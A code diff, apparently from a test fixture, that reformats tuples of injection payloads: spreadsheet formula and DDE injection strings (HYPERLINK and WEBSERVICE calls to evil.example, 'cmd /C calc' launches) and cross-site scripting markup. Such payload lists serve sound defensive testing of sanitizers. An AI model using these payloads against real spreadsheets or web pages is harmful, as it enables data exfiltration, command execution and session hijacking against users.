@@ -5,20 +5,48 @@ _CALLS = (
     'HYPERLINK("http://evil.example/?"&A1,"open")',
     "1+1",
 )
-_BEGINS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", '"=', "\u3000=", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+_BEGINS = (
+    "=",
+    "+",
+    "-",
+    "@",
+    "\t=",
+    "\r=",
+    "\n=",
+    " =",
+    "'=",
+    '"=',
+    "\u3000=",
+    "\uff1d",
+    "\uff0b",
+    "\uff0d",
+    "\uff20",
+)
 
-FORMULAS = tuple(begin + call for begin in _BEGINS for call in _CALLS) + (
-    'a","=1+1', "a;=1+1", "a\t=1+1", "a\r\n=1+1", 'a"\n=1+1', "=IMPORTXML(CONCAT(\"http://e/\",A1),\"//a\")",
-    "@SUM(1+9)*cmd|' /C calc'!A0", "=WEBSERVICE(\"http://evil.example\")", "-2+3+cmd|' /C calc'!D2",
-    "|cmd' /C calc'!A0", "%0A=1+1", "\ufeff=1+1", "\u200b=1+1", "\x00=1+1".replace("\x00", "\x01"),
-)  # fmt: skip
+FORMULAS = (
+    *(begin + call for begin in _BEGINS for call in _CALLS),
+    'a","=1+1',
+    "a;=1+1",
+    "a\t=1+1",
+    "a\r\n=1+1",
+    'a"\n=1+1',
+    '=IMPORTXML(CONCAT("http://e/",A1),"//a")',
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    '=WEBSERVICE("http://evil.example")',
+    "-2+3+cmd|' /C calc'!D2",
+    "|cmd' /C calc'!A0",
+    "%0A=1+1",
+    "\ufeff=1+1",
+    "\u200b=1+1",
+    "\x01=1+1",
+)
 
 MARKUP = (
     "<script>alert(1)</script>",
     "<img src=x onerror=alert(1)>",
-    "\"><svg onload=alert(1)>",
+    '"><svg onload=alert(1)>',
     "' onmouseover='alert(1)",
-    "\" onfocus=\"alert(1)\" autofocus=\"",
+    '" onfocus="alert(1)" autofocus="',
     "</title><script>alert(1)</script>",
     "</style><script>alert(1)</script>",
     "--><script>alert(1)</script><!--",
